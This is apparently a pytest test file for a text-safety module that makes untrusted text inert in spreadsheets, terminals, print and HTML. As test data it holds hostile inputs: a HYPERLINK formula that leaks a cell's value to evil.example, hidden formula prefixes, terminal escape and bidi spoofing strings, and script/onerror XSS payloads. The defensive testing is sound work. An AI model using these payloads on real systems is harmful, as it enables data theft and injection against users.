"""mapujpomoc_model.text_safety: other people's text made inert for terminals, spreadsheets, HTML and print."""

from __future__ import annotations

import html
import xml.etree.ElementTree as ET

import pytest

from mapujpomoc_model.text_safety import (
    BIDI_CONTROLS,
    html_text,
    neutralise_controls,
    printable,
    spreadsheet_original,
    spreadsheet_safe,
    xml_safe,
)

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A2,\"Kliknij\")", "+48 89 523 12 34", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1", "\0=1", "  =1+1", "\u3000=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
    "\ufe661", "'=1", "'already quoted", "''",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_starts_a_formula_and_the_original_comes_back(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe.startswith("'")
    assert spreadsheet_original(safe) == text


@pytest.mark.parametrize("text", ["Bank żywności – Olsztyn", "", "48 89 523 12 34", "Mo-Fr 08:00-16:00",
                                  "a=b", "https://pomoc.example.pl", "00-950"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text == spreadsheet_original(text)


def test_terminal_escapes_are_made_visible() -> None:
    text = "Punkt\x1b[2J\x1b]0;owned\x07 \u202egnp.exe\u202c\u2066x\u2069 a\nb\r\tc\x9b31m\x7f\u2028"
    shown = neutralise_controls(text)
    assert not any(ch in shown for ch in "\x1b\x07\n\r\t\x9b\x7f\u2028")
    assert not BIDI_CONTROLS & set(shown)
    assert shown == ("Punkt\\x1b[2J\\x1b]0;owned\\x07 <U+202E>gnp.exe<U+202C><U+2066>x<U+2069> a\\nb\\r\\tc\\x9b31m"
                     "\\x7f<U+2028>")
    assert neutralise_controls("Łódź – Львів ✓") == "Łódź – Львів ✓"
    assert neutralise_controls(None) == "None" and neutralise_controls(12) == "12"


def test_print_drops_bidi_and_controls_but_keeps_lines() -> None:
    assert printable("Pomoc \u202eaksnilrT\u202c\x1b[31m dla\tdzieci\nline 2") == "Pomoc aksnilrT[31m dla dzieci\nline 2"
    assert printable("\u200fa\u200e\u061cb\u2066c\u2069") == "abc"
    assert printable("שלום Привіт") == "שלום Привіт"  # right-to-left letters themselves are text, not controls


def test_html_text_arrives_as_text() -> None:
    hostile = "<script>alert(1)</script><img src=x onerror=alert(2)> & ]]><![CDATA[ \x1b\x00 'ok' \"q\""
    escaped = html_text(hostile)
    assert "<" not in escaped and ">" not in escaped
    root = ET.fromstring(f"<d>{escaped}</d>")  # well-formed XML, no element from the text
    assert list(root) == [] and root.text == xml_safe(hostile)
    assert html.unescape(escaped) == xml_safe(hostile) == hostile.replace("\x1b", "\ufffd").replace("\x00", "\ufffd")
